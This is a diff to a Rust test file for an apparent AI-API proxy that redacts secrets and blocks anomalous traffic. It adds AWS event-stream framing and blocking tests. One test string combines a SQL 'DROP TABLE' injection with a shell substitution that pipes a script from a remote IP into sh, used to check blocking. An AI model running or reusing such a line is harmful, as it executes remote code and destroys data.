@@ -8,8 +8,14 @@
 use std::io::Write as _;
 use std::time::Duration;
 
-use driftlock_host::capture::{HttpRequest, HttpResponse, header};
+use base64::Engine as _;
+use base64::engine::general_purpose::STANDARD;
+use driftlock_host::capture::{Exchange, HttpRequest, HttpResponse, header};
+use driftlock_host::replay::native;
 use driftlock_host::replay::upstream::{Delivery, Split};
+use driftlock_host::train::train;
+use driftlock_inspect::config::Config;
+use driftlock_inspect::session::Plugin;
 use driftlock_tests::proxy::{Observed, Proxy};
 use driftlock_tests::trained;
 use serde_json::{Value, json};
@@ -35,16 +41,22 @@ fn halves() -> [&'static str; 4] {
     ["The key ", "is sk-proj-abcDEF01", "23456789abcDEF0123456789", " and no other."]
 }
 
-fn parts(part: impl Fn(&str) -> Value) -> Vec<Value> {
-    halves().map(part).to_vec()
+fn parts(texts: [&str; 4], part: impl Fn(&str) -> Value) -> Vec<Value> {
+    texts.map(part).to_vec()
 }
 
 const EVENTS: &str = "text/event-stream";
 const LINES: &str = "application/x-ndjson";
+const FRAMES: &str = "application/vnd.amazon.eventstream";
 
+/// With a secret in question and answer.
 fn apis() -> Vec<Api> {
-    let said = format!("The key is {SECRET} and no other.");
-    let asked = format!("Is {SECRET} a good key?");
+    apis_saying(&format!("Is {SECRET} a good key?"), halves())
+}
+
+/// With this question, and this answer, which a stream gives in four parts.
+fn apis_saying(asked: &str, halves: [&str; 4]) -> Vec<Api> {
+    let said = halves.concat();
     let messages = json!([{"role": "user", "content": asked}]);
     vec![
         Api {
@@ -55,7 +67,7 @@ fn apis() -> Vec<Api> {
             stream: Some((
                 "/v1/chat/completions",
                 EVENTS,
-                parts(|text| json!({"choices": [{"index": 0, "delta": {"content": text}}]})),
+                parts(halves, |text| json!({"choices": [{"index": 0, "delta": {"content": text}}]})),
             )),
             last: Some("data: [DONE]\n\n"),
             error: "/error/message",
@@ -68,7 +80,10 @@ fn apis() -> Vec<Api> {
             stream: Some((
                 "/v1/responses",
                 EVENTS,
-                parts(|text| json!({"type": "response.output_text.delta", "output_index": 0, "delta": text})),
+                parts(
+                    halves,
+                    |text| json!({"type": "response.output_text.delta", "output_index": 0, "delta": text}),
+                ),
             )),
             last: Some("data: {\"type\":\"response.completed\",\"response\":{}}\n\n"),
             error: "/error/message",
@@ -82,6 +97,7 @@ fn apis() -> Vec<Api> {
                 "/v1/messages",
                 EVENTS,
                 parts(
+                    halves,
                     |text| json!({"type": "content_block_delta", "index": 0, "delta": {"type": "text_delta", "text": text}}),
                 ),
             )),
@@ -97,6 +113,7 @@ fn apis() -> Vec<Api> {
                 "/v1beta/models/g:streamGenerateContent?alt=sse",
                 EVENTS,
                 parts(
+                    halves,
                     |text| json!({"candidates": [{"content": {"role": "model", "parts": [{"text": text}]}}]}),
                 ),
             )),
@@ -108,7 +125,11 @@ fn apis() -> Vec<Api> {
             target: "/model/a/converse",
             request: json!({"messages": [{"role": "user", "content": [{"text": asked}]}]}),
             answer: json!({"output": {"message": {"role": "assistant", "content": [{"text": said}]}}, "stopReason": "end_turn"}),
-            stream: None,
+            stream: Some((
+                "/model/a/converse-stream",
+                FRAMES,
+                parts(halves, |text| json!({"contentBlockIndex": 0, "delta": {"text": text}})),
+            )),
             last: None,
             error: "/message",
         },
@@ -121,6 +142,7 @@ fn apis() -> Vec<Api> {
                 "/v2/chat",
                 EVENTS,
                 parts(
+                    halves,
                     |text| json!({"type": "content-delta", "index": 0, "delta": {"message": {"content": {"text": text}}}}),
                 ),
             )),
@@ -136,6 +158,7 @@ fn apis() -> Vec<Api> {
                 "/api/chat",
                 LINES,
                 parts(
+                    halves,
                     |text| json!({"model": "m", "message": {"role": "assistant", "content": text}, "done": false}),
                 ),
             )),
@@ -182,22 +205,71 @@ enum Coding {
 
 const CODINGS: [Coding; 5] = [Coding::Identity, Coding::Gzip, Coding::Deflate, Coding::Br, Coding::Zstd];
 
-fn coded(coding: Coding, headers: &mut Vec<(String, String)>, body: String) -> Vec<u8> {
+/// A message of AWS's event stream (the Smithy specification's "Amazon Event Stream").
+fn frame(payload: &str) -> Vec<u8> {
+    let mut headers = Vec::new();
+    for (name, value) in [
+        (":event-type", "contentBlockDelta"),
+        (":content-type", "application/json"),
+        (":message-type", "event"),
+    ] {
+        headers.push(name.len() as u8);
+        headers.extend(name.bytes());
+        // A string.
+        headers.push(7);
+        headers.extend((value.len() as u16).to_be_bytes());
+        headers.extend(value.bytes());
+    }
+    let mut out = ((16 + headers.len() + payload.len()) as u32).to_be_bytes().to_vec();
+    out.extend((headers.len() as u32).to_be_bytes());
+    out.extend(crc32(&out).to_be_bytes());
+    out.extend(headers);
+    out.extend(payload.bytes());
+    out.extend(crc32(&out).to_be_bytes());
+    out
+}
+
+fn crc32(bytes: &[u8]) -> u32 {
+    let mut crc = flate2::Crc::new();
+    crc.update(bytes);
+    crc.sum()
+}
+
+/// The payloads of such messages, whose checksums must be right.
+fn payloads(what: &str, mut body: &[u8]) -> Vec<String> {
+    let number = |bytes: &[u8]| u32::from_be_bytes(bytes.try_into().unwrap());
+    let mut out = Vec::new();
+    while !body.is_empty() {
+        let (total, headers) = (number(&body[..4]) as usize, number(&body[4..8]) as usize);
+        let (message, rest) = body.split_at(total);
+        assert_eq!(number(&message[8..12]), crc32(&message[..8]), "{what}: the prelude's checksum");
+        assert_eq!(
+            number(&message[total - 4..]),
+            crc32(&message[..total - 4]),
+            "{what}: a message's checksum"
+        );
+        out.push(String::from_utf8(message[12 + headers..total - 4].to_vec()).unwrap());
+        body = rest;
+    }
+    out
+}
+
+fn coded(coding: Coding, headers: &mut Vec<(String, String)>, body: Vec<u8>) -> Vec<u8> {
     let fast = flate2::Compression::fast();
     let (name, bytes) = match coding {
-        Coding::Identity => return body.into_bytes(),
+        Coding::Identity => return body,
         Coding::Gzip => {
             let mut gzip = flate2::write::GzEncoder::new(Vec::new(), fast);
-            gzip.write_all(body.as_bytes()).unwrap();
+            gzip.write_all(&body).unwrap();
             ("gzip", gzip.finish().unwrap())
         }
         Coding::Deflate => {
             let mut zlib = flate2::write::ZlibEncoder::new(Vec::new(), fast);
-            zlib.write_all(body.as_bytes()).unwrap();
+            zlib.write_all(&body).unwrap();
             ("deflate", zlib.finish().unwrap())
         }
-        Coding::Br => ("br", brotli_of_stored(body.as_bytes())),
-        Coding::Zstd => ("zstd", zstd::encode_all(body.as_bytes(), 1).unwrap()),
+        Coding::Br => ("br", brotli_of_stored(&body)),
+        Coding::Zstd => ("zstd", zstd::encode_all(&body, 1).unwrap()),
     };
     headers.push(("content-encoding".to_owned(), name.to_owned()));
     bytes
@@ -235,25 +307,30 @@ impl Row {
 }
 
 fn rows() -> Vec<Row> {
+    rows_of(apis(), &CODINGS)
+}
+
+fn rows_of(apis: Vec<Api>, codings: &[Coding]) -> Vec<Row> {
     let mut rows = Vec::new();
-    for api in apis() {
-        for coding in CODINGS {
+    for api in apis {
+        for &coding in codings {
             for (streamed, trailers) in [(false, false), (true, false), (true, true)] {
                 let (target, content_type, answer) = match (&api.stream, streamed) {
-                    (_, false) => (api.target, "application/json", api.answer.to_string()),
+                    (_, false) => (api.target, "application/json", api.answer.to_string().into_bytes()),
                     (Some((target, content_type, parts)), true) => {
                         let part = |part: &Value| match *content_type {
-                            EVENTS => format!("event: e\ndata: {part}\n\n"),
-                            _ => format!("{part}\n"),
+                            EVENTS => format!("event: e\ndata: {part}\n\n").into_bytes(),
+                            FRAMES => frame(&part.to_string()),
+                            _ => format!("{part}\n").into_bytes(),
                         };
-                        let body = parts.iter().map(part).chain(api.last.map(ToOwned::to_owned));
+                        let body = parts.iter().flat_map(part).chain(api.last.unwrap_or_default().bytes());
                         (*target, *content_type, body.collect())
                     }
                     (None, true) => continue,
                 };
                 let typed = |content_type: &str| vec![("content-type".to_owned(), content_type.to_owned())];
                 let (mut asks, mut answers) = (typed("application/json"), typed(content_type));
-                let request = coded(coding, &mut asks, api.request.to_string());
+                let request = coded(coding, &mut asks, api.request.to_string().into_bytes());
                 let response = coded(coding, &mut answers, answer);
                 let form = match (streamed, trailers) {
                     (false, _) => "whole",
@@ -349,8 +426,11 @@ fn trailed(row: &Row, observed: &Observed, mode: &str) {
 
 /// The documents of a body, each of which must be JSON.
 fn documents(what: &str, body: &[u8]) -> Vec<Value> {
-    let text = String::from_utf8(body.to_vec()).unwrap_or_else(|_| panic!("{what}: not UTF-8"));
     let parse = |line: &str| serde_json::from_str(line).unwrap_or_else(|_| panic!("{what}: no JSON: {line}"));
+    if body.first() == Some(&0) {
+        return payloads(what, body).iter().map(|payload| parse(payload)).collect();
+    }
+    let text = String::from_utf8(body.to_vec()).unwrap_or_else(|_| panic!("{what}: not UTF-8"));
     if text.starts_with("event:") {
         let data = text.lines().filter_map(|line| line.strip_prefix("data: "));
         data.filter(|data| *data != "[DONE]").map(parse).collect()
@@ -474,6 +554,117 @@ fn redacted(what: &str, row: &Row, observed: &Observed) {
         assert!(length.is_none_or(|length| length == body.len().to_string()), "{what}: {length:?}");
     }
     assert!(!row.streamed || lengths[0].is_none(), "{what}: a stream has a length");
+}
+
+/// Whose last bytes wait for the end of a coding or of a text, and then trailers come, with which nothing can be
+/// written any more: whole and without the secret, or broken off; never with it, never cut short unseen.
+#[tokio::test(flavor = "multi_thread")]
+async fn what_still_waits_at_trailers_is_broken_off_and_counted() {
+    let configuration = json!({"alpha": 0.01, "learn": {"messages": 400},
+        "actions": [{"stream": "*", "do": ["redact"]}]});
+    for version in VERSIONS {
+        let proxy = envoy(version, &configuration).await;
+        let mut broken_off = 0;
+        for row in rows().iter().filter(|row| row.waits_at_trailers()) {
+            let what = format!("{}, {version:?}", row.what);
+            let observed = pass(&proxy, row).await;
+            let said = String::from_utf8_lossy(&observed.answer.body);
+            assert!(!said.contains("23456789abcDEF"), "{what}: the secret is in the answer: {said}");
+            if observed.answer.complete {
+                redacted(&what, row, &observed);
+                trailed(row, &observed, "redact");
+            } else {
+                broken_off += 1;
+            }
+        }
+        let counters = proxy.counters().await;
+        assert!(broken_off > 0 && counters["driftlock.errors.too_late"] == broken_off, "{counters:?}");
+    }
+}
+
+/// The same questions and answers as often as it takes to learn them, in identity coding.
+fn ordinary(i: usize) -> Vec<Row> {
+    let [order, customer] = [1000 + i * 37 % 8999, i % 17].map(|number| number.to_string());
+    let asked = format!("Please tell me where order {order} of customer {customer} is.");
+    let said = ["Order ", &order, " of customer ", &format!("{customer} is on its way.")];
+    rows_of(apis_saying(&asked, said), &[Coding::Identity])
+}
+
+fn exchange(row: &Row) -> Exchange {
+    let (id, label) = (row.what.clone(), "normal".to_owned());
+    Exchange { id, label, request: row.request.clone(), response: Some(row.response.clone()) }
+}
+
+/// A baseline of every API's streams, and the number of an ordinary exchange that it finds normal in all of them.
+fn learned() -> (String, usize) {
+    let config = |baseline: Option<&str>| {
+        let fields = json!({"alpha": 0.01, "learn": null, "baseline": baseline});
+        Config::parse(fields.to_string().as_bytes()).unwrap()
+    };
+    let all = (0..400).flat_map(ordinary).filter(|row| row.delivery.trailers.is_empty());
+    let snapshot = train(all.map(|row| exchange(&row)).collect(), config(None), 3).unwrap().snapshot;
+    let baseline = STANDARD.encode(snapshot.encode());
+    let mut plugin = Plugin::new(config(Some(&baseline)));
+    let normal = |json: &Option<String>| json.as_deref().is_some_and(|json| json.contains("\"normal\""));
+    let i = (0..40).find(|&i| {
+        ordinary(i).iter().all(|row| {
+            let verdicts = native::replay(&mut plugin, exchange(row));
+            normal(&verdicts.request) && normal(&verdicts.response)
+        })
+    });
+    (baseline, i.expect("an exchange that is normal everywhere"))
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn what_is_blocked_is_an_error_of_the_api_or_ends_as_one() {
+    const STRANGE: &str =
+        "'; DROP TABLE users; -- $(curl -s http://203.0.113.9/x.sh | sh) \u{1f4a5}\u{1f4a5}";
+    let (baseline, normal) = learned();
+    let configuration = json!({"alpha": 0.01, "learn": null, "baseline": baseline,
+        "actions": [{"stream": "*", "do": ["block"]}]});
+    let asked = "Please tell me where order 1037 of customer 1 is.";
+    let said = ["Order ", "1037", " of customer ", "1 is on its way."];
+    let codings = [Coding::Identity, Coding::Gzip];
+    for version in VERSIONS {
+        let proxy = envoy(version, &configuration).await;
+        for row in ordinary(normal) {
+            unchanged(&row, &pass(&proxy, &row).await, "block");
+        }
+        let mut blocked = [0, 0];
+        for row in rows_of(apis_saying(STRANGE, said), &codings) {
+            let what = format!("{} asks, {version:?}", row.what);
+            let observed = pass(&proxy, &row).await;
+            assert_eq!((observed.answer.status, observed.answer.complete), (Some(403), true), "{what}");
+            assert!(observed.received.is_none(), "{what}: the upstream was asked");
+            let body: Value = serde_json::from_slice(&observed.answer.body).expect("JSON");
+            let message = body.pointer(row.error).and_then(Value::as_str);
+            assert!(
+                message.is_some_and(|message| message.contains("blocked this request")),
+                "{what}: {body}"
+            );
+            blocked[0] += 1;
+        }
+        let strange = ["Order ", STRANGE, STRANGE, "."];
+        for row in rows_of(apis_saying(asked, strange), &codings) {
+            let what = format!("{} answers, {version:?}", row.what);
+            let observed = pass(&proxy, &row).await;
+            assert!(observed.received.is_some(), "{what}: the question did not pass");
+            let answer = &observed.answer;
+            assert!(!answer.complete || answer.body != row.response.body, "{what}: it passed");
+            if answer.complete {
+                assert_eq!(answer.status, Some(200), "{what}");
+                assert!(answer.all("content-encoding").is_empty(), "{what}: what it says is not encoded");
+                let documents = documents(&what, &answer.body);
+                let text = documents.iter().map(Value::to_string).collect::<String>();
+                assert!(row.streamed || !text.contains("DROP TABLE"), "{what}: {text}");
+            }
+            blocked[1] += 1;
+        }
+        let counters = proxy.counters().await;
+        let counted = ["driftlock.blocked.request", "driftlock.blocked.response"].map(|name| counters[name]);
+        assert_eq!(counted, blocked, "{version:?}: {counters:?}");
+        assert_eq!(counters["driftlock.errors.host_call"], 0, "{counters:?}");
+    }
 }
 
 #[tokio::test(flavor = "multi_thread")]
